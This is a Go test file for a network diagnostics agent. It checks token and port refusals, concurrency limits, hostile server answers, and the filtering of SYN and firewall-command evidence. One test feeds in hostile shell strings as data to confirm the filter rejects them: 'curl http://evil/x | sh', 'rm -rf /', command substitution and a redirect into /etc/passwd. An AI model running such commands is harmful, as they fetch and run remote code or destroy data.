package agent

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/conndiag/conndiag/internal/evidence"
)

const token = "test-token-0123456789"

var (
	me    = netip.MustParseAddr("192.0.2.1") // httptest.NewRequest's client
	other = netip.MustParseAddr("192.0.2.99")
)

// fakeWatch reports a SYN of the requesting client and one of another.
func fakeWatch(ctx context.Context, port uint16, d time.Duration, started func()) (Report, error) {
	started()
	to := netip.AddrPortFrom(netip.MustParseAddr("198.51.100.5"), port)
	return Report{Port: evidence.PortEvidence{Port: port, Watch: &evidence.Watch{Duration: d, SYNs: []evidence.WatchedSYN{
		{From: netip.AddrPortFrom(me, 40000), To: to, Count: 2, Answer: evidence.AnswerNone},
		{From: netip.AddrPortFrom(other, 40001), To: to, Count: 1, Answer: evidence.AnswerNone},
	}}}}, nil
}

func serve(t *testing.T, h http.Handler, method, path, auth, body string) (int, []Line) {
	t.Helper()
	r := httptest.NewRequest(method, path, strings.NewReader(body))
	if auth != "" {
		r.Header.Set("Authorization", auth)
	}
	w := httptest.NewRecorder()
	h.ServeHTTP(w, r)
	var ls []Line
	sc := bufio.NewScanner(w.Body)
	for sc.Scan() {
		var l Line
		if err := json.Unmarshal(sc.Bytes(), &l); err != nil {
			t.Fatalf("answer line %q: %v", sc.Text(), err)
		}
		ls = append(ls, l)
	}
	return w.Code, ls
}

func TestHandlerRefuses(t *testing.T) {
	h := New(Config{Token: token, Ports: []uint16{8282}, Watch: fakeWatch})
	ok := `{"port":8282,"duration_ms":300}`
	tests := []struct {
		name, method, path, auth, body string
		status                         int
		code                           string
	}{
		{"no token", "POST", Path, "", ok, 401, evidence.AgentRefusedToken},
		{"wrong token", "POST", Path, "Bearer nope", ok, 401, evidence.AgentRefusedToken},
		{"token as prefix", "POST", Path, "Bearer " + token + "x", ok, 401, evidence.AgentRefusedToken},
		{"not bearer", "POST", Path, token, ok, 401, evidence.AgentRefusedToken},
		{"GET", "GET", Path, "Bearer " + token, "", 405, evidence.AgentBadRequest},
		{"other path", "POST", Prefix + "x", "Bearer " + token, ok, 404, evidence.AgentBadRequest},
		{"port not allowed", "POST", Path, "Bearer " + token, `{"port":22}`, 403, evidence.AgentRefusedPort},
		{"port 0", "POST", Path, "Bearer " + token, `{"port":0}`, 400, evidence.AgentBadRequest},
		{"not JSON", "POST", Path, "Bearer " + token, "\x00\xff{{", 400, evidence.AgentBadRequest},
		{"port too large", "POST", Path, "Bearer " + token, `{"port":70000}`, 400, evidence.AgentBadRequest},
		{"negative duration", "POST", Path, "Bearer " + token, `{"port":8282,"duration_ms":-1}`, 400, evidence.AgentBadRequest},
		// The body is read through a 4 KiB limit: a huge one is cut, not held.
		{"huge body", "POST", Path, "Bearer " + token, `{"port":8282,"x":"` + strings.Repeat("a", 1<<20) + `"}`, 400, evidence.AgentBadRequest},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			status, ls := serve(t, h, tt.method, tt.path, tt.auth, tt.body)
			if status != tt.status || len(ls) != 1 || ls[0].State != "error" || ls[0].Error != tt.code {
				t.Fatalf("got %d %+v, want %d with one error line %s", status, ls, tt.status, tt.code)
			}
			if tt.code == evidence.AgentRefusedPort && (len(ls[0].Allowed) != 1 || ls[0].Allowed[0] != 8282) {
				t.Errorf("a port refusal lists the ports allowed: %+v", ls[0])
			}
		})
	}
}

// Only the requesting client's SYNs are in the answer, and the watch is
// bounded by the agent's maximum.
func TestHandlerWatch(t *testing.T) {
	var got time.Duration
	h := New(Config{Token: token, Ports: []uint16{8282}, MaxWatch: time.Second,
		Watch: func(ctx context.Context, port uint16, d time.Duration, started func()) (Report, error) {
			got = d
			return fakeWatch(ctx, port, d, started)
		}})
	status, ls := serve(t, h, "POST", Path, "Bearer "+token, `{"port":8282,"duration_ms":600000}`)
	if status != 200 || len(ls) != 2 || ls[0].State != "watching" || ls[1].State != "done" || ls[1].Result == nil {
		t.Fatalf("got %d %+v", status, ls)
	}
	if got != time.Second || ls[0].DurationMS != 1000 {
		t.Errorf("watch of %v (said %d ms), want the agent's maximum 1s", got, ls[0].DurationMS)
	}
	if ls[0].Client != me.String() {
		t.Errorf("client %q, want %s", ls[0].Client, me)
	}
	syns := ls[1].Result.SYNs
	if len(syns) != 1 || !strings.HasPrefix(syns[0].From, me.String()+":") {
		t.Errorf("want only this client's SYN: %+v", syns)
	}
}

func TestHandlerNoRootAndBusy(t *testing.T) {
	noRoot := New(Config{Token: token, Ports: []uint16{8282},
		Watch: func(context.Context, uint16, time.Duration, func()) (Report, error) {
			return Report{}, fmt.Errorf("opening: %w", ErrNoRoot)
		}})
	if status, ls := serve(t, noRoot, "POST", Path, "Bearer "+token, `{"port":8282}`); status != 503 || ls[0].Error != evidence.AgentNoRoot {
		t.Errorf("no root: got %d %+v", status, ls)
	}

	// A watch that holds until released: a second one from the same
	// client, and one beyond AtOnce from others, are refused as busy.
	release := make(chan struct{})
	var inWatch sync.WaitGroup
	h := New(Config{Token: token, Ports: []uint16{8282}, AtOnce: 2,
		Watch: func(ctx context.Context, port uint16, d time.Duration, started func()) (Report, error) {
			started()
			inWatch.Done()
			<-release
			return Report{}, nil
		}})
	req := func(from string) *httptest.ResponseRecorder {
		r := httptest.NewRequest("POST", Path, strings.NewReader(`{"port":8282}`))
		r.RemoteAddr = from
		r.Header.Set("Authorization", "Bearer "+token)
		w := httptest.NewRecorder()
		h.ServeHTTP(w, r)
		return w
	}
	var done sync.WaitGroup
	for _, from := range []string{"192.0.2.1:1", "192.0.2.2:1"} {
		inWatch.Add(1)
		done.Add(1)
		go func() { defer done.Done(); req(from) }()
	}
	inWatch.Wait()
	for _, from := range []string{"192.0.2.1:2", "192.0.2.3:1"} {
		if w := req(from); w.Code != http.StatusTooManyRequests || !strings.Contains(w.Body.String(), `"error":"busy"`) {
			t.Errorf("from %s while two watch: %d %s", from, w.Code, w.Body)
		}
	}
	close(release)
	done.Wait()
	inWatch.Add(1)
	if w := req("192.0.2.1:3"); w.Code != 200 {
		t.Errorf("after the watches ended: %d %s", w.Code, w.Body)
	}
}

// agentServer answers every watch with body (after the watching line when
// watching is true).
func agentServer(t *testing.T, status int, body string) *url.URL {
	t.Helper()
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.WriteHeader(status)
		_, _ = w.Write([]byte(body))
	}))
	t.Cleanup(s.Close)
	u, err := ParseURL(s.URL)
	if err != nil {
		t.Fatal(err)
	}
	return u
}

// The client against the real handler, end to end over HTTP.
func TestClientWatch(t *testing.T) {
	s := httptest.NewServer(New(Config{Token: token, Ports: []uint16{8282}, Watch: fakeWatch}))
	defer s.Close()
	u, _ := ParseURL(s.URL)
	c := Client{Base: u, Token: token, Timeout: 2 * time.Second}
	ran := false
	a, err := c.Watch(context.Background(), 8282, MinWatch, func(context.Context, netip.Addr) { ran = true })
	if err != nil || !ran {
		t.Fatalf("watch: %v (during ran: %v)", err, ran)
	}
	if a.SeenAs != netip.MustParseAddr("127.0.0.1") {
		t.Errorf("seen as %s", a.SeenAs)
	}
	_, err = Client{Base: u, Token: "wrong", Timeout: 2 * time.Second}.Watch(context.Background(), 8282, MinWatch, func(context.Context, netip.Addr) {})
	var r *Refused
	if !asRefused(err, &r) || r.Code != evidence.AgentRefusedToken || r.Status != 401 {
		t.Errorf("wrong token: %v", err)
	}
}

func asRefused(err error, r **Refused) bool {
	rr, ok := err.(*Refused)
	*r = rr
	return ok
}

// Hostile answers: a line without end, a refusal with a huge message, an
// answer that is not the API's; each is an error, read within maxAnswer.
func TestClientHostileAnswers(t *testing.T) {
	huge := strings.Repeat("x", 8<<20)
	tests := []struct {
		name   string
		status int
		body   string
	}{
		{"endless line", 200, `{"state":"watching","client":"` + huge},
		{"not JSON", 200, "HTTP/1.1 200 OK\r\n\r\n<html>\n"},
		{"no done", 200, `{"state":"watching","client":"127.0.0.1"}` + "\n"},
		{"error after watching", 200, `{"state":"watching","client":"127.0.0.1"}` + "\n" + `{"state":"error","error":"cannot_watch","message":"` + strings.Repeat("m", 5000) + `"}` + "\n"},
		{"refusal, huge message", 403, `{"state":"error","error":"port","message":"` + strings.Repeat("m", 5000) + `"}` + "\n"},
		{"refusal, no body", 500, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c := Client{Base: agentServer(t, tt.status, tt.body), Token: token, Timeout: 2 * time.Second}
			_, err := c.Watch(context.Background(), 8282, MinWatch, func(context.Context, netip.Addr) {})
			if err == nil {
				t.Fatal("want an error")
			}
			if r, ok := err.(*Refused); ok && (len(r.Message) > 200 || len(r.Code) > 200) {
				t.Errorf("the agent's text is not clipped: %d bytes", len(r.Message))
			}
		})
	}
}

// Evidence keeps only the SYNs from the address the agent saw this client
// as, and only firewall commands without shell syntax.
func TestAnswerEvidence(t *testing.T) {
	a := &Answer{SeenAs: me, Duration: time.Second, Result: Result{
		SYNs: []SYN{
			{From: "192.0.2.1:40000", To: "198.51.100.5:8282", Count: 2, Answer: "none"},
			{From: "192.0.2.99:40001", To: "198.51.100.5:8282", Count: 1, Answer: "none"},
			{From: "garbage", To: "198.51.100.5:8282"},
			{From: "192.0.2.1:40002", To: "198.51.100.5:8282", Count: -5, Answer: "rm -rf /"},
		},
		Firewall: []evidence.FirewallEvidence{{Open: evidence.Opening{Commands: []string{
			"iptables -I INPUT -p tcp --dport 8282 -j ACCEPT",
			"iptables -I INPUT -p tcp --dport 8282 -j ACCEPT; curl evil | sh",
			"curl http://evil/x | sh",
			"ufw allow 8282/tcp && ufw reload",
			"ufw allow 8282/tcp && rm -rf /",
			"iptables -L\n rm -rf /",
			"iptables -I INPUT $(id)",
			"iptables -I INPUT `id`",
			"nft add rule inet filter input tcp dport 8282 accept > /etc/passwd",
		}}}},
	}}
	pe, _ := a.Evidence(8282)
	if len(pe.Watch.SYNs) != 2 {
		t.Fatalf("want the two SYNs of %s: %+v", me, pe.Watch.SYNs)
	}
	if s := pe.Watch.SYNs[1]; s.Count != 1 || s.Answer != evidence.AnswerNone {
		t.Errorf("a bad count or answer is normalised: %+v", s)
	}
	cmds := pe.Firewall[0].Open.Commands
	want := []string{"iptables -I INPUT -p tcp --dport 8282 -j ACCEPT", "ufw allow 8282/tcp && ufw reload"}
	if fmt.Sprint(cmds) != fmt.Sprint(want) {
		t.Errorf("commands kept %q, want %q", cmds, want)
	}
}

// FuzzAnswerLine: whatever bytes an agent sends as a line, reading it and
// turning it into evidence neither panics nor keeps another address's SYN
// or a command with shell syntax.
func FuzzAnswerLine(f *testing.F) {
	f.Add([]byte(`{"state":"done","result":{"syns":[{"from":"192.0.2.1:1","to":"198.51.100.5:8282","count":1,"answer":"none"}]}}` + "\n"))
	f.Add([]byte(`{"state":"done","result":{"firewall":[{"Open":{"Commands":["iptables -L; id"]}}]}}`))
	f.Add([]byte(`{"state":"done","result":{"syns":[{"from":"[::ffff:192.0.2.1]:1","to":"x"}],"host_addrs":["::1","zz"]}}`))
	f.Add([]byte("\x00\xff\xfe{\"state\":"))
	f.Add([]byte(`{"state":"done","result":null}`))
	f.Fuzz(func(t *testing.T, data []byte) {
		l, err := readLine(bufio.NewReader(bytes.NewReader(data)))
		if err != nil || l.Result == nil {
			return
		}
		pe, _ := (&Answer{SeenAs: me, Result: *l.Result}).Evidence(8282)
		for _, s := range pe.Watch.SYNs {
			if s.From.Addr().Unmap() != me {
				t.Fatalf("kept a SYN from %s", s.From)
			}
		}
		for _, fw := range pe.Firewall {
			for _, c := range fw.Open.Commands {
				if !openingOK(c) || strings.ContainsAny(c, ";|`$\n") {
					t.Fatalf("kept command %q", c)
				}
			}
		}
	})
}
